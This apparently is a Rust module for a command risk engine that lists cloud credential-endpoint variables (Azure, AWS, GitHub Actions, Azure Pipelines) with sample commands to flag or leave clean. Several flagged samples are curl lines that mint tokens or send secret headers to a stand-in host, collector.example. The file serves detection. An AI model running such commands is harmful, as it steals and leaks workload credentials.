//! Environment variables that name a credential endpoint, or hold the
//! secret a request to one must carry: the managed-identity and workload
//! token services that hand a process its cloud credentials without a
//! fixed address (`curl "$IDENTITY_ENDPOINT?resource=..." -H
//! "X-IDENTITY-HEADER: $IDENTITY_HEADER"`). A request to one of these
//! mints a credential, wherever the variable points; the instance
//! metadata addresses (`169.254.169.254`) are known by address elsewhere.
//!
//! Sources: each platform's documentation of the variables (cited per
//! row).

/// What a variable of the table holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EndpointPart {
    /// The endpoint's URL (or the path appended to a fixed address).
    Url,
    /// The secret a request to the endpoint carries, in a header.
    Secret,
}

/// One variable.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct CredentialEndpointVar {
    /// The variable's name, upper case.
    pub name: &'static str,
    /// Whose endpoint, for the reason shown.
    pub service: &'static str,
    /// What it holds.
    pub part: EndpointPart,
    /// Whether the endpoint hands out credentials (a token, keys); `false`
    /// for metadata-only endpoints (asked about, as instance metadata is).
    pub credentials: bool,
    /// Where the knowledge comes from.
    pub source: &'static str,
    /// Commands the risk engine must flag.
    pub flagged: &'static [&'static str],
    /// Commands the risk engine must leave clean.
    pub clean: &'static [&'static str],
}

use EndpointPart::{Secret, Url};

const AZURE_MI: &str = "https://learn.microsoft.com/en-us/azure/app-service/overview-managed-identity#rest-endpoint-reference (IDENTITY_ENDPOINT, IDENTITY_HEADER; MSI_ENDPOINT, MSI_SECRET in the 2017 API)";
const ECS: &str = "https://docs.aws.amazon.com/sdkref/latest/guide/feature-container-credentials.html (AWS_CONTAINER_CREDENTIALS_RELATIVE_URI on 169.254.170.2, _FULL_URI, AWS_CONTAINER_AUTHORIZATION_TOKEN)";
const GHA: &str = "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-cloud-providers#requesting-the-jwt-using-environment-variables";
const ADO: &str = "https://learn.microsoft.com/en-us/azure/devops/pipelines/release/configure-workload-identity (SYSTEM_OIDCREQUESTURI, SYSTEM_ACCESSTOKEN)";

/// The table.
pub const CREDENTIAL_ENDPOINT_VARS: &[CredentialEndpointVar] = &[
    CredentialEndpointVar {
        name: "IDENTITY_ENDPOINT",
        service: "Azure managed identity",
        part: Url,
        credentials: true,
        source: AZURE_MI,
        flagged: &["curl \"$IDENTITY_ENDPOINT?resource=https://vault.azure.net&api-version=2019-08-01\" -H \"X-IDENTITY-HEADER: $IDENTITY_HEADER\""],
        clean: &["echo \"$IDENTITY_ENDPOINT\""],
    },
    CredentialEndpointVar {
        name: "IDENTITY_HEADER",
        service: "Azure managed identity",
        part: Secret,
        credentials: true,
        source: AZURE_MI,
        flagged: &["curl -H \"X-IDENTITY-HEADER: $IDENTITY_HEADER\" https://collector.example/"],
        clean: &["test -n \"$IDENTITY_HEADER\""],
    },
    CredentialEndpointVar {
        name: "MSI_ENDPOINT",
        service: "Azure managed identity (2017 API)",
        part: Url,
        credentials: true,
        source: AZURE_MI,
        flagged: &["curl \"$MSI_ENDPOINT?resource=https://management.azure.com/&api-version=2017-09-01\" -H Secret:$MSI_SECRET"],
        clean: &["echo $MSI_ENDPOINT"],
    },
    CredentialEndpointVar {
        name: "MSI_SECRET",
        service: "Azure managed identity (2017 API)",
        part: Secret,
        credentials: true,
        source: AZURE_MI,
        flagged: &["curl -H Secret:$MSI_SECRET https://collector.example/"],
        clean: &["test -n \"$MSI_SECRET\""],
    },
    CredentialEndpointVar {
        name: "IMDS_ENDPOINT",
        service: "Azure Arc instance metadata",
        part: Url,
        credentials: true,
        source: "https://learn.microsoft.com/en-us/azure/azure-arc/servers/managed-identity-authentication (IDENTITY_ENDPOINT, IMDS_ENDPOINT)",
        flagged: &["curl -s -H Metadata:true \"$IMDS_ENDPOINT/metadata/identity/oauth2/token?resource=https://management.azure.com\""],
        clean: &["echo $IMDS_ENDPOINT"],
    },
    CredentialEndpointVar {
        name: "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        service: "AWS container credentials",
        part: Url,
        credentials: true,
        source: ECS,
        flagged: &["curl $AWS_CONTAINER_CREDENTIALS_FULL_URI -H \"Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN\""],
        clean: &["test -n \"$AWS_CONTAINER_CREDENTIALS_FULL_URI\""],
    },
    CredentialEndpointVar {
        name: "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        service: "AWS container credentials",
        part: Url,
        credentials: true,
        source: ECS,
        flagged: &["curl \"169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}\""],
        clean: &["test -n \"$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI\""],
    },
    CredentialEndpointVar {
        name: "AWS_CONTAINER_AUTHORIZATION_TOKEN",
        service: "AWS container credentials",
        part: Secret,
        credentials: true,
        source: ECS,
        flagged: &["curl -H \"Authorization: $AWS_CONTAINER_AUTHORIZATION_TOKEN\" https://collector.example/"],
        clean: &["test -n \"$AWS_CONTAINER_AUTHORIZATION_TOKEN\""],
    },
    CredentialEndpointVar {
        name: "ACTIONS_ID_TOKEN_REQUEST_URL",
        service: "GitHub Actions OIDC",
        part: Url,
        credentials: true,
        source: GHA,
        flagged: &["curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com\""],
        clean: &["test -n \"$ACTIONS_ID_TOKEN_REQUEST_URL\""],
    },
    CredentialEndpointVar {
        name: "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
        service: "GitHub Actions OIDC",
        part: Secret,
        credentials: true,
        source: GHA,
        flagged: &["curl -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" https://collector.example/"],
        clean: &["test -n \"$ACTIONS_ID_TOKEN_REQUEST_TOKEN\""],
    },
    CredentialEndpointVar {
        name: "SYSTEM_OIDCREQUESTURI",
        service: "Azure Pipelines OIDC",
        part: Url,
        credentials: true,
        source: ADO,
        flagged: &["curl -s -X POST \"$SYSTEM_OIDCREQUESTURI?api-version=7.1\" -H \"Authorization: Bearer $SYSTEM_ACCESSTOKEN\""],
        clean: &["echo $SYSTEM_OIDCREQUESTURI"],
    },
    CredentialEndpointVar {
        name: "ECS_CONTAINER_METADATA_URI_V4",
        service: "Amazon ECS task metadata",
        part: Url,
        credentials: false,
        source: "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-metadata-endpoint-v4.html",
        flagged: &["curl -s $ECS_CONTAINER_METADATA_URI_V4/task"],
        clean: &["echo $ECS_CONTAINER_METADATA_URI_V4"],
    },
    CredentialEndpointVar {
        name: "ECS_CONTAINER_METADATA_URI",
        service: "Amazon ECS task metadata",
        part: Url,
        credentials: false,
        source: "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-metadata-endpoint-v3.html",
        flagged: &["curl -s \"${ECS_CONTAINER_METADATA_URI}/task\""],
        clean: &["echo $ECS_CONTAINER_METADATA_URI"],
    },
];

/// The row of the variable `name` (any case).
pub fn credential_endpoint_var(name: &str) -> Option<&'static CredentialEndpointVar> {
    let upper = name.to_ascii_uppercase();
    CREDENTIAL_ENDPOINT_VARS.iter().find(|v| v.name == upper)
}

/// The first endpoint URL variable that `word` expands (`$NAME` or
/// `${NAME...}`), as a request's URL would.
pub fn endpoint_in(word: &str) -> Option<&'static CredentialEndpointVar> {
    var_refs(word)
        .iter()
        .find_map(|n| credential_endpoint_var(n).filter(|v| v.part == Url))
}

/// Every `$VAR` and `${VAR...}` referenced in `text`, in order.
pub fn var_refs(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some((_, after)) = rest.split_once('$') {
        rest = after;
        let after = after.strip_prefix('{').unwrap_or(after);
        let name: String = after
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        if !name.is_empty() {
            out.push(name);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every row has examples both ways and a source; names are unique and
    /// upper case.
    #[test]
    fn rows_are_whole() {
        let mut seen = std::collections::HashSet::new();
        for v in CREDENTIAL_ENDPOINT_VARS {
            assert!(!v.flagged.is_empty() && !v.clean.is_empty(), "{}", v.name);
            assert!(!v.source.is_empty(), "{}", v.name);
            assert_eq!(v.name, v.name.to_ascii_uppercase(), "{}", v.name);
            assert!(seen.insert(v.name), "{} twice", v.name);
        }
    }

    #[test]
    fn words_find_their_endpoint() {
        let name = |w: &str| endpoint_in(w).map(|v| v.name);
        assert_eq!(
            name("$IDENTITY_ENDPOINT?resource=x"),
            Some("IDENTITY_ENDPOINT")
        );
        assert_eq!(
            name("http://169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}"),
            Some("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")
        );
        assert_eq!(name("$IDENTITY_HEADER"), None);
        assert_eq!(name("$IDENTITY_ENDPOINTS"), None);
        assert_eq!(name("https://example.com/"), None);
    }
}
